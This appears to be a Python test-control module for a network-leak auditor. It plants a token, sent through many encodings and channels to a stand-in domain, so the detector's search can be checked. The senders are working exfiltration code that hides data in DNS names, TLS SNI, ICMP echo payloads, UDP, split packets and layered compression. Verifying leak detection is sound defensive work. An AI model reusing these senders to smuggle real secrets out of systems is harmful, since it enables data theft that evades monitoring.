"""The control: leaks planted on purpose, one for each encoding and channel, that the search has to find.

A run whose control fails evidences nothing.
"""

import base64
import codecs
import contextlib
import gzip
import json
import os
import socket
import ssl
import struct
import time
import zlib
from collections.abc import Callable
from typing import NamedTuple

import brotli
import h2.config
import h2.connection
import zstandard

from auditor.facts.sealed import Channel

DOMAIN = "control.invalid"
NOWHERE = ("198.51.100.99", 9)
"""What the control tries to reach where there is no route."""
_TEXT = "the code word is {token}, keep it"


class Leak(NamedTuple):
    """A planted leak; it is known again by the name that it is sent to."""

    name: str
    channel: Channel
    host: str


Encode = Callable[[bytes], bytes]


def _utf16(data: bytes) -> bytes:
    return data.decode().encode("utf-16")


def _json(data: bytes) -> bytes:
    return b"".join(b"\\u%04x" % byte for byte in data)


def _percent(data: bytes) -> bytes:
    return b"".join(b"%%%02X" % byte for byte in data)


def _rot13(data: bytes) -> bytes:
    return codecs.encode(data.decode("latin-1"), "rot13").encode("latin-1")


def _hex(data: bytes) -> bytes:
    return data.hex().encode()


ENCODINGS: dict[str, Encode] = {
    "plain": lambda data: data,
    "upper case": bytes.upper,
    "UTF-16": _utf16,
    "hex": _hex,
    "base32": base64.b32encode,
    "base64, first place": base64.b64encode,
    "base64, second place": lambda data: base64.b64encode(b"1" + data),
    "base64, third place": lambda data: base64.b64encode(b"12" + data),
    "base64, url-safe": base64.urlsafe_b64encode,
    "percent": _percent,
    "JSON escapes": _json,
    "reversed": lambda data: data[::-1],
    "rot13": _rot13,
    "gzip": gzip.compress,
    "zlib": zlib.compress,
    "zstd": zstandard.compress,
    "brotli": brotli.compress,
    "base64 of gzip": lambda data: base64.b64encode(gzip.compress(data)),
    "hex of reversed": lambda data: _hex(data[::-1]),
    "three: base64 of gzip of hex": lambda data: base64.b64encode(gzip.compress(_hex(data))),
    "three: zlib of base64 of zstd": lambda data: zlib.compress(base64.b64encode(zstandard.compress(data))),
    "three: percent of base64 of brotli": lambda data: _percent(base64.b64encode(brotli.compress(data))),
}
"""Each is sent as the body of an HTTPS request."""

_CHANNELS = (
    ("path", Channel.PATH),
    ("header", Channel.HEADER),
    ("name in TLS", Channel.SNI),
    ("name in DNS", Channel.DNS),
    ("names in DNS, in pieces", Channel.DNS),
    ("DNS over TCP", Channel.DNS),
    ("DNS over HTTPS", Channel.DNS),
    ("HTTP in the clear", Channel.BODY),
    ("HTTP/2 body", Channel.BODY),
    ("HTTP/2 header", Channel.HEADER),
    ("WebSocket", Channel.BODY),
    ("chunked body", Channel.BODY),
    ("split over packets", Channel.BODY),
    ("TLS that is no HTTP", Channel.STREAM),
    ("TCP, any port", Channel.STREAM),
    ("TCP over IPv6", Channel.STREAM),
    ("UDP, any port", Channel.DATAGRAM),
    ("UDP, split over packets", Channel.DATAGRAM),
    ("another protocol over IP", Channel.PACKET),
)


def leaks(without: str = "") -> tuple[Leak, ...]:
    """All planted leaks; ``without`` names what this host has not got."""
    found = [Leak(name, Channel.BODY, f"encoding-{at}.{DOMAIN}") for at, name in enumerate(ENCODINGS)]
    found += [Leak(name, channel, _channel_host(at)) for at, (name, channel) in enumerate(_CHANNELS)]
    return tuple(leak for leak in found if "IPv6" not in leak.name or without != "IPv6")


def _channel_host(at: int) -> str:
    # Pieces of names are put together below one domain, so that leak has one of its own.
    return f"pieces-{DOMAIN}" if _CHANNELS[at][0].endswith("in pieces") else f"channel-{at}.{DOMAIN}"


def planted(name: str, address: str) -> bool:
    """Whether something was sent by the control, not by the server."""
    return name == DOMAIN or name.endswith((f".{DOMAIN}", f"pieces-{DOMAIN}")) or address == NOWHERE[0]


def try_to_leave() -> None:
    """Where there is no route: what the kernel's observer has to see."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(NOWHERE)


def plant(token: str, bundle: str) -> None:
    """Send every leak; one that cannot be sent will not be found, which is what counts."""
    planter = _Planter(token, bundle)
    for at, encode in enumerate(ENCODINGS.values()):
        with contextlib.suppress(OSError):
            planter.body(f"encoding-{at}.{DOMAIN}", encode(planter.text))
    senders = (
        planter.path, planter.header, planter.sni, planter.dns, planter.dns_pieces, planter.dns_tcp, planter.doh,
        planter.clear, planter.two_body, planter.two_header, planter.websocket, planter.chunked, planter.split,
        planter.tls, planter.tcp, planter.six, planter.udp, planter.udp_split, planter.other,
    )  # fmt: skip
    for at, send in enumerate(senders):
        with contextlib.suppress(OSError):
            send(_channel_host(at))


class _Planter:
    """Sends one text in many ways."""

    def __init__(self, token: str, bundle: str) -> None:
        self._token = token
        self.text = _TEXT.format(token=token).encode()
        self._context = ssl.create_default_context(cafile=bundle)
        self._two = ssl.create_default_context(cafile=bundle)
        self._two.set_alpn_protocols(["h2"])

    def _secure(self, host: str, context: ssl.SSLContext | None = None) -> ssl.SSLSocket:
        plain = socket.create_connection((host, 443), 5)
        return (context or self._context).wrap_socket(plain, server_hostname=host)

    def _talk(self, host: str, data: bytes) -> None:
        with self._secure(host) as sock:
            sock.sendall(data)
            sock.recv(4096)

    def body(self, host: str, body: bytes) -> None:
        """As the body of an HTTPS request."""
        head = b"POST /v1 HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (host.encode(), len(body))
        self._talk(host, head + body)

    def path(self, host: str) -> None:
        """In the address of a request."""
        self._talk(host, b"GET /a/%s?b=c HTTP/1.1\r\nHost: %s\r\n\r\n" % (self._token.encode(), host.encode()))

    def header(self, host: str) -> None:
        """In a header, in base64."""
        value = base64.b64encode(self.text)
        self._talk(host, b"GET / HTTP/1.1\r\nHost: %s\r\nX-Trace: %s\r\n\r\n" % (host.encode(), value))

    def sni(self, host: str) -> None:
        """In the name that TLS asks for."""
        self._talk(f"{self._token}.{host}", b"GET / HTTP/1.1\r\n\r\n")

    def dns(self, host: str) -> None:
        """In a name that is asked for, in base32."""
        socket.getaddrinfo(f"{base64.b32encode(self._token.encode()).decode().rstrip('=').lower()}.{host}", 80)

    def dns_pieces(self, host: str) -> None:
        """In several names."""
        for at in range(0, len(self._token), 6):
            socket.getaddrinfo(f"{self._token[at : at + 6]}.{host}", 80)

    def _question(self, host: str) -> bytes:
        name = b"".join(bytes([len(label)]) + label.encode() for label in f"{self._token}.{host}".split("."))
        return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!HH", 1, 1)

    def dns_tcp(self, host: str) -> None:
        """To a name server over TCP."""
        question = self._question(host)
        with socket.create_connection((host, 53), 5) as sock:
            sock.sendall(len(question).to_bytes(2, "big") + question)
            sock.recv(4096)

    def doh(self, host: str) -> None:
        """To a name server over HTTPS."""
        question = self._question(host)
        head = b"POST /dns-query HTTP/1.1\r\nHost: %s\r\nContent-Type: application/dns-message\r\n" % host.encode()
        self._talk(host, head + b"Content-Length: %d\r\n\r\n" % len(question) + question)

    def clear(self, host: str) -> None:
        """Without TLS."""
        with socket.create_connection((host, 8080), 5) as sock:
            head = b"POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (host.encode(), len(self.text))
            sock.sendall(head + self.text)
            sock.recv(4096)

    def _second(self, host: str, headers: list[tuple[str, str]], body: bytes) -> None:
        with self._secure(host, self._two) as sock:
            machine = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            machine.initiate_connection()
            fields = [(":method", "POST"), (":path", "/"), (":authority", host), (":scheme", "https"), *headers]
            machine.send_headers(1, fields)
            machine.send_data(1, body, end_stream=True)
            sock.sendall(machine.data_to_send())
            sock.recv(4096)

    def two_body(self, host: str) -> None:
        """As the body of an HTTP/2 request."""
        self._second(host, [("content-encoding", "gzip")], gzip.compress(self.text))

    def two_header(self, host: str) -> None:
        """In a header of HTTP/2, which compresses them."""
        self._second(host, [("x-trace", self._token)], b"{}")

    def websocket(self, host: str) -> None:
        """In a frame of a WebSocket, masked."""
        key = os.urandom(4)
        masked = bytes(byte ^ key[at % 4] for at, byte in enumerate(self.text))
        upgrade = b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
        with self._secure(host) as sock:
            sock.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\n" % host.encode() + upgrade)
            sock.recv(4096)
            sock.sendall(bytes([0x81, 0x80 | len(masked)]) + key + masked)

    def chunked(self, host: str) -> None:
        """In a body of small chunks."""
        parts = [self.text[at : at + 7] for at in range(0, len(self.text), 7)]
        body = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in parts) + b"0\r\n\r\n"
        head = b"POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n" % host.encode()
        self._talk(host, head + body)

    def split(self, host: str) -> None:
        """In many small packets."""
        head = b"POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (host.encode(), len(self.text))
        with socket.create_connection((host, 80), 5) as sock:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for at in range(0, len(head + self.text), 9):
                sock.sendall((head + self.text)[at : at + 9])
                time.sleep(0.001)
            sock.recv(4096)

    def tls(self, host: str) -> None:
        """Inside TLS, but no HTTP."""
        with self._secure(host) as sock:
            sock.sendall(b"\x00\x01" + self.text)

    def tcp(self, host: str) -> None:
        """Over plain TCP, on a port that nobody expects."""
        with socket.create_connection((host, 4444), 5) as sock:
            sock.sendall(json.dumps({"note": self.text[::-1].decode()}).encode())

    def six(self, host: str) -> None:
        """By IPv6."""
        for family, kind, proto, _, address in socket.getaddrinfo(host, 9999, socket.AF_INET6, socket.SOCK_STREAM):
            with socket.socket(family, kind, proto) as sock:
                sock.settimeout(5)
                sock.connect(address)
                sock.sendall(self.text)
            return

    def udp(self, host: str) -> None:
        """As a datagram."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(zlib.compress(self.text), (socket.gethostbyname(host), 5514))

    def udp_split(self, host: str) -> None:
        """As several datagrams."""
        address = (socket.gethostbyname(host), 8125)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            for at in range(0, len(self.text), 9):
                sock.sendto(self.text[at : at + 9], address)

    def other(self, host: str) -> None:
        """In an echo request."""
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
            sock.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + self.text, (socket.gethostbyname(host), 0))
